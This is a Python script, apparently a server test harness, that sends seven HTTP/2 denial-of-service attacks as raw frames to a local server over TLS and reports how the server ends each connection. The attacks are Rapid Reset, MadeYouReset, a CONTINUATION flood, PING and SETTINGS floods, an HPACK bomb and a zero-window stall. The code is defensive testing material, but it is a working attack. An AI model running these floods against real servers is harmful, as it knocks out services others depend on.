"""HTTP/2 attacks sent as raw frames (hyperframe, hpack) at a server on 127.0.0.1:PORT over TLS:
`python h2_attacks.py ATTACK PORT CAFILE`. Prints how the server ended it: `goaway CODE` (it closed
the connection, saying why), `reset CODE` (it refused the stream), `closed` (the connection ended
with no GOAWAY), or `survived` (nothing happened within the time given), and `frames N` (what the
server sent, to show it did not answer a flood in kind). Every wait is bounded.

  rapid_reset       HEADERS then RST_STREAM on 5,000 streams (CVE-2023-44487)
  made_you_reset    5,000 POSTs whose DATA overruns their content-length: the server resets each
                    stream itself ("MadeYouReset", 2025) while its handler may already run
  continuation      HEADERS without END_HEADERS, then 10,000 CONTINUATION frames (CVE-2024-28182)
  ping_flood        100,000 PINGs, never reading the answers
  settings_flood    100,000 SETTINGS frames, never reading the acknowledgements
  hpack_bomb        one 4 KiB field in the dynamic table, then a request naming it 5,000 times
                    (5 KB on the wire, 20 MB decoded)
  zero_window       SETTINGS_INITIAL_WINDOW_SIZE 0, a GET of a large file, never a WINDOW_UPDATE:
                    waits up to 40 s for the server to give up on the stream
"""
import socket
import ssl
import sys
import time

import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame)

PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'


def connect(port, cafile):
    context = ssl.create_default_context(cafile=cafile)
    context.set_alpn_protocols(['h2'])
    sock = context.wrap_socket(socket.create_connection(('127.0.0.1', int(port)), timeout=10), server_hostname='localhost')
    assert sock.selected_alpn_protocol() == 'h2'
    return sock


def request_block(encoder, path='/hello.txt', extra=()):
    return encoder.encode([(':method', 'GET'), (':path', path), (':scheme', 'https'), (':authority', 'localhost')] + list(extra))


class Watcher:
    """Reads what the server sends until it ends the connection or `seconds` pass."""

    def __init__(self, sock):
        self.sock = sock
        self.buffer = b''
        self.frames = 0
        self.ending = None

    def read(self, seconds, until_goaway=False):
        """The first ending seen (a GOAWAY or a RST_STREAM), or with `until_goaway` the GOAWAY
        (streams refused on the way do not end the connection)."""
        deadline = time.monotonic() + seconds
        self.sock.settimeout(0.5)
        while (self.ending is None or until_goaway and not self.ending.startswith('goaway')) and time.monotonic() < deadline:
            try:
                data = self.sock.recv(65536)
            except socket.timeout:
                continue
            except (ssl.SSLError, OSError):
                self.ending = 'closed'
                break
            if not data:
                self.ending = self.ending or 'closed'
                break
            self.buffer += data
            self.parse()
        return self.ending

    def parse(self):
        while len(self.buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
            if len(self.buffer) < 9 + length:
                return
            frame.parse_body(memoryview(self.buffer[9:9 + length]))
            self.buffer = self.buffer[9 + length:]
            self.frames += 1
            if isinstance(frame, GoAwayFrame):
                self.ending = 'goaway %d' % frame.error_code
            elif isinstance(frame, RstStreamFrame) and self.ending is None:
                self.ending = 'reset %d' % frame.error_code


def send(sock, data):
    try:
        sock.sendall(data)
        return True
    except (ssl.SSLError, OSError):
        return False


def on_5000_streams(sock, watcher, frames):
    """frames(encoder, stream) for streams 1, 3, 5... in 50 sends of 100, then the GOAWAY awaited."""
    encoder = hpack.Encoder()
    stream = 1
    for batch in range(50):
        out = b''
        for _ in range(100):
            out += frames(encoder, stream)
            stream += 2
        if not send(sock, out):
            break
    return watcher.read(10, until_goaway=True)


def rapid_reset(sock, watcher):
    return on_5000_streams(sock, watcher, lambda encoder, stream:
                           HeadersFrame(stream, request_block(encoder), flags=['END_HEADERS', 'END_STREAM']).serialize()
                           + RstStreamFrame(stream, error_code=8).serialize())


def made_you_reset(sock, watcher):
    return on_5000_streams(sock, watcher, lambda encoder, stream:
                           HeadersFrame(stream, request_block(encoder, '/', [('content-length', '1')]), flags=['END_HEADERS']).serialize()
                           + DataFrame(stream, b'xy', flags=['END_STREAM']).serialize())


def continuation(sock, watcher):
    encoder = hpack.Encoder()
    out = HeadersFrame(1, request_block(encoder), flags=['END_STREAM']).serialize()
    piece = ContinuationFrame(1, encoder.encode([('x-filler', 'a')])).serialize()
    send(sock, out)
    for _ in range(100):
        if not send(sock, piece * 100):
            break
    return watcher.read(10)


def ping_flood(sock, watcher):
    ping = PingFrame(0, opaque_data=b'12345678').serialize()
    for _ in range(1000):
        if not send(sock, ping * 100):
            break
    return watcher.read(10)


def settings_flood(sock, watcher):
    settings = SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize()
    for _ in range(1000):
        if not send(sock, settings * 100):
            break
    return watcher.read(10)


def hpack_bomb(sock, watcher):
    encoder = hpack.Encoder()
    first = request_block(encoder, extra=[('x-bomb', 'b' * 4096)])   # now in the dynamic table
    send(sock, HeadersFrame(1, first, flags=['END_HEADERS', 'END_STREAM']).serialize())
    # The field is the newest entry of the dynamic table (index 62): one byte names it again.
    bomb = request_block(encoder) + bytes([0x80 | 62]) * 5000
    send(sock, HeadersFrame(3, bomb, flags=['END_HEADERS', 'END_STREAM']).serialize())
    return watcher.read(10)


def zero_window(sock, watcher):
    encoder = hpack.Encoder()
    send(sock, HeadersFrame(1, request_block(encoder, '/large.bin'), flags=['END_HEADERS', 'END_STREAM']).serialize())
    return watcher.read(40)


def main(attack, port, cafile):
    sock = connect(port, cafile)
    watcher = Watcher(sock)
    if attack == 'zero_window':
        settings = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize()
    else:
        settings = SettingsFrame(0).serialize()
    send(sock, PREFACE + settings)
    ending = globals()[attack](sock, watcher)
    print(ending or 'survived')
    print('frames', watcher.frames)


if __name__ == '__main__':
    main(*sys.argv[1:])
